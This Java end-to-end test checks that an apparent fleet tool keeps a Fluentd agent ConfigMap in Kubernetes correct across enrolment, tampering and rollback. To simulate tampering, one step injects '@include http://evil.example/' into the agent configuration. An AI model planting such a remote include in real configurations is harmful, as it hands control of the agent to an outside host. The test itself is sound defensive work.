package dev.cartographer.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.time.Duration;
import java.util.Optional;
import java.util.function.Predicate;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** An agent's configuration on a real API server, from its first delivery to a refusal. */
@ExtendWith(RealServers.Provided.class)
class AgentConfigMapTest {
  private static final String NAMESPACE = "wagon";
  private static final String MAP = "/api/v1/namespaces/wagon/configmaps/cartographer-logs-agent";
  private static final Duration PATIENCE = Duration.ofSeconds(60);

  @Test
  void itIsDeliveredMendedAndRolledBackWhenTheAgentRefusesIt(RealServers servers) {
    var kubernetes = servers.kubernetes();
    var tenant = TenantNamespace.create(kubernetes, NAMESPACE);
    grantConfigMaps(kubernetes);
    try (var product = product(servers, tenant)) {
      enrol(product, "first");
      var first = await(kubernetes, map -> says(map, "first"));
      assertThat(first.path("data").has("companion.sh")).isTrue();
      assertThat(first.at("/metadata/managedFields/0/manager").asText()).isEqualTo("cartographer");
      Eventually.so("the token", PATIENCE, () -> tenant.holds("logs"));

      var edited = (ObjectNode) first.deepCopy();
      ((ObjectNode) edited.path("data")).put("fluent.conf", "@include http://evil.example/");
      kubernetes.replace(MAP, edited);
      await(kubernetes, map -> says(map, "first"));

      enrol(product, "second");
      var second = await(kubernetes, map -> says(map, "second"));
      assertThat(second.at("/data/previous.fluent.conf").asText()).contains("team 'first'");

      var refused = (ObjectNode) second.deepCopy();
      refused
          .withObject("/metadata/annotations")
          .put("cartographer.dev/refused", second.at("/data/configuration").asText().strip());
      kubernetes.replace(MAP, refused);
      await(kubernetes, map -> says(map, "first"));
      Eventually.so("why to tell the refusal", PATIENCE, () -> tellsARefusal(product));

      enrol(product, "third");
      await(kubernetes, map -> says(map, "third"));
      Eventually.so(
          "all to be well", PATIENCE, () -> product.ask("why", "cluster", NAMESPACE).exit() == 0);
    }
  }

  private static boolean tellsARefusal(Product product) {
    var said = product.ask("why", "cluster", NAMESPACE);
    return said.exit() == 3 && said.all().contains("refuses its configuration");
  }

  private static boolean says(JsonNode map, String label) {
    return map.at("/data/fluent.conf").asText().contains("team '" + label + "'");
  }

  private static JsonNode await(KubernetesApi kubernetes, Predicate<JsonNode> as) {
    return Eventually.there(
        "the ConfigMap as it should be",
        PATIENCE,
        () -> {
          var answer = kubernetes.get(MAP);
          return Optional.of(answer.body()).filter(as);
        });
  }

  private static void enrol(Product product, String label) {
    product.write(
        "fleet.yaml",
        """
        carriers:
          - {name: carrier-1, region: local}
        clusters:
          - name: wagon
            tenant: acme
            carrier: carrier-1
            identity: {client: kiosk, secret: {file: kiosk}}
            target: {namespace: wagon, kubeconfig: {file: kube}}
            agents: {logs: fluentd, labels: {team: %s}}
        """
            .formatted(label));
    var said = product.ask("enrol", "fleet.yaml");
    assertThat(said.exit()).as(said.all()).isZero();
  }

  private static Product product(RealServers servers, TenantNamespace tenant) {
    var realm = RealServers.SHIPPING;
    var product = new Product(Repository.emptied("agent-config-map"));
    product.configure(
        """
          rotation: {sweep: 2s}
          regions:
            local:
              iam: {dialect: client-credentials, token-endpoint: '%1$s'}
              logging:
                dialect: token-exchange
                audience: logging-service
                scope: logging
                client-id: cartographer
                client-secret-file: exchanger
                agents: {endpoint: 'https://logs.example/lines'}
              metrics:
                dialect: token-exchange
                audience: metrics-service
                scope: metrics
                client-id: cartographer
                client-secret-file: exchanger
        """
            .formatted(servers.keycloak().tokenEndpoint(realm)));
    product.secret("exchanger", realm.secretOf(Realm.EXCHANGER));
    product.secret("kiosk", realm.secretOf("kiosk"));
    product.secret("kube", tenant.kubeconfig());
    product.start();
    return product;
  }

  private static void grantConfigMaps(KubernetesApi kubernetes) {
    var inside = "/apis/rbac.authorization.k8s.io/v1/namespaces/" + NAMESPACE;
    kubernetes.create(
        inside + "/roles",
        Http.json(
            """
            {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
             "metadata": {"name": "agents"},
             "rules": [
               {"apiGroups": [""], "resources": ["configmaps"], "verbs": ["create"]},
               {"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "patch"],
                "resourceNames": ["cartographer-logs-agent"]}]}
            """));
    kubernetes.create(
        inside + "/rolebindings",
        Http.json(
            """
            {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
             "metadata": {"name": "agents"},
             "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "agents"},
             "subjects": [{"kind": "ServiceAccount", "name": "cartographer", "namespace": "wagon"}]}
            """));
  }
}
